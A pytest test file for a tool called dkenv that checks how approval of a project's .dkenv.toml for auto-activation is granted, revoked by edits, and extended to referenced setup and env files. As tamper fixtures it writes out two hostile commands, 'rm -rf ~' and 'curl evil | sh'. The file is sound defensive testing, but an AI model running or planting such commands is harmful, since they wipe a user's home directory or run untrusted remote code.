"""Approving a .dkenv.toml for auto-activation, and what auto-activation does without it."""
from __future__ import annotations

import pytest

from dkenv.cli import main
from dkenv.shell import allow

pytestmark = pytest.mark.usefixtures("state")  # tests/unit/conftest.py


@pytest.fixture
def root(tmp_path):
    folder = tmp_path / "app"
    folder.mkdir()
    (folder / ".dkenv.toml").write_text('[project]\nname = "app"\n')
    return folder


def test_allow_then_deny(root, state):
    assert not allow.is_allowed(root)
    allow.allow(root)
    assert allow.is_allowed(root)
    assert list((state / "dkenv").rglob("*"))  # in the state dir, nowhere else
    assert allow.deny(root) is True
    assert not allow.is_allowed(root)
    assert allow.deny(root) is False


def test_an_edit_withdraws_the_approval(root):
    allow.allow(root)
    (root / ".dkenv.toml").write_text('[project]\nname = "app"\n[run]\ncommand = "rm -rf ~"\n')
    assert not allow.is_allowed(root)
    allow.allow(root)
    assert allow.is_allowed(root)
    assert len(list(allow._folder().iterdir())) == 1  # the older approval went


def test_the_same_content_elsewhere_is_not_approved(root, tmp_path):
    allow.allow(root)
    twin = tmp_path / "twin"
    twin.mkdir()
    (twin / ".dkenv.toml").write_bytes((root / ".dkenv.toml").read_bytes())
    assert not allow.is_allowed(twin)


def test_a_symlink_reaches_the_same_approval(root, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(root)
    allow.allow(link)
    assert allow.is_allowed(root)
    assert allow.deny(root)
    assert not allow.is_allowed(link)


def test_no_config_no_approval(tmp_path):
    allow.allow(tmp_path)
    assert not allow.is_allowed(tmp_path)


def test_auto_activation_refuses_an_unapproved_project(root, capsys):
    assert main(["-C", str(root), "activate", "--shell-code", "bash", "--auto"]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err == f"dkenv: {root}/.dkenv.toml is not allowed; run `dkenv allow` to approve it\n"
    assert not (root / ".dkenv").exists()  # nothing written, built or started


def test_allow_command_then_auto_activation(root, capsys, monkeypatch):
    monkeypatch.chdir(root)
    assert main(["allow"]) == 0
    assert f"allowed {root}/.dkenv.toml" in capsys.readouterr().err
    assert main(["activate", "--shell-code", "bash", "--auto"]) == 0
    out = capsys.readouterr().out
    assert "DKENV_PROJECT=" in out and "_DKENV_AUTO=1" in out
    assert main(["deny"]) == 0
    assert "no longer allowed" in capsys.readouterr().err
    assert main(["activate", "--shell-code", "bash", "--auto"]) == 1


def test_an_explicit_activation_approves(root, capsys):
    assert main(["-C", str(root), "activate", "--shell-code", "zsh"]) == 0
    assert allow.is_allowed(root)


def test_allow_is_about_the_project_here_not_the_active_one(root, tmp_path, monkeypatch, capsys):
    other = tmp_path / "other"
    other.mkdir()
    (other / ".dkenv.toml").write_text('[project]\nname = "other"\n')
    monkeypatch.setenv("DKENV_PROJECT", str(other))
    monkeypatch.chdir(root)
    assert main(["allow"]) == 0
    assert allow.is_allowed(root) and not allow.is_allowed(other)


@pytest.mark.parametrize("key, table, name", [("setup", "image", "setup.sh"), ("env_file", "run", ".env")])
def test_an_approval_covers_the_files_the_config_runs_or_injects(root, key, table, name):
    (root / name).write_text("echo one\n")
    (root / ".dkenv.toml").write_text(f'[{table}]\n{key} = "{name}"\n')
    allow.allow(root)
    assert allow.is_allowed(root)
    (root / name).write_text("curl evil | sh\n")
    assert not allow.is_allowed(root)
    (root / name).write_text("echo one\n")
    assert allow.is_allowed(root)
